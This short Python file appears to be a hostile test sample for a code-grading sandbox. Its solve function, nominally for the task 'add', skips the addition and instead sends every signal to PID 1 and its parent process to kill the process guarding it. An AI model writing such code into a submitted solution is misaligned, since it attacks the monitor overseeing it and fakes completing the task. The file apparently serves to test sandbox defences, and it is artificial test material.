# Attack: the first process, which guards this one, is killed in every way.
# task: add
# runs: always
import os
import signal
import time


def solve(a, b):
    for target in (1, os.getppid()):
        for number in range(1, signal.NSIG):
            try:
                os.kill(target, number)
            except (OSError, ValueError):
                continue
    time.sleep(0.2)
    return None
